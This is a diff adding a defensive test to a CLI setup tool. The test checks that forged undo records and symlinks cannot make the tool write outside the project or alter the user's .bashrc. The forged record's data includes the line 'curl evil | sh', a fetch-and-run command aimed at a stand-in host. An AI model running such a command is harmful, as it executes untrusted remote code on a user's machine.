@@ -14,7 +14,7 @@ import { dirname, join, relative } from 'node:path'
 import { describe, expect, it } from 'vitest'
 import { agentNamed } from '../../src/setup/agents/index.ts'
 import { carryOut, planChanges } from '../../src/setup/change.ts'
-import { readRecord } from '../../src/setup/record.ts'
+import { hashOf, readRecord, writeRecord } from '../../src/setup/record.ts'
 import { runHere } from '../cli/program.ts'
 import { createSandbox } from '../cli/sandbox.ts'
 import { terminal } from '../cli/tmux.ts'
@@ -219,6 +219,35 @@ describe('beckon setup', () => {
     expect(sandbox.read('.gemini/settings.json')).not.toContain(sandbox.home)
     expect(await sandbox.setup('gemini', '--undo', '--yes')).toMatchObject({ code: 0 })
     expect(sandbox.files()).toEqual(before)
+  })
+
+  it('writes nothing outside of a project that brings a record or a link', async () => {
+    const sandbox = await createSetup()
+    const project = sandbox.cwd
+    sandbox.write('.bashrc', 'alias ll=ls\n')
+    sandbox.write('other.json', '{}')
+    const evil = join(project, 'evil')
+    const edits = [{ offset: 0, removed: 'curl evil | sh\n', inserted: '' }]
+    const content = { format: 'whole' as const, text: '' }
+    const forged = { path: join(sandbox.user, '.bashrc'), before: hashOf('x'), after: hashOf('alias ll=ls\n') ?? '' }
+    const files = [{ ...forged, folders: [], content, made: [], edits }]
+    writeRecord(evil, { version: 1, agent: 'gemini', project, at: '', files, previous: [] })
+    mkdirSync(join(project, '.gemini'))
+    const server = { command: 'x', args: [], env: { BECKON_HOME: evil } }
+    writeFileSync(join(project, '.gemini/settings.json'), JSON.stringify({ mcpServers: { beckon: server } }))
+    mkdirSync(join(project, '.claude'))
+    symlinkSync(join(sandbox.user, 'other.json'), join(project, '.claude/settings.local.json'))
+    symlinkSync(sandbox.user, join(project, '.opencode'))
+    const theirs = () => readdirSync(sandbox.user).map(name => [name, sandbox.read(name)])
+    const before = theirs()
+
+    const undone = await sandbox.setup('gemini', '--project', '--undo', '--yes')
+    expect(undone).toMatchObject({ code: 0, stderr: expect.stringContaining('nothing to undo') })
+    for (const agent of ['claude', 'opencode']) {
+      const { code, stderr } = await sandbox.setup(agent, '--project', '--yes')
+      expect({ code, stderr }).toEqual({ code: 5, stderr: expect.stringContaining('leads out of the project') })
+    }
+    expect(theirs()).toEqual(before)
   })
 
   it('follows a link to the file, and keeps link and mode', async () => {
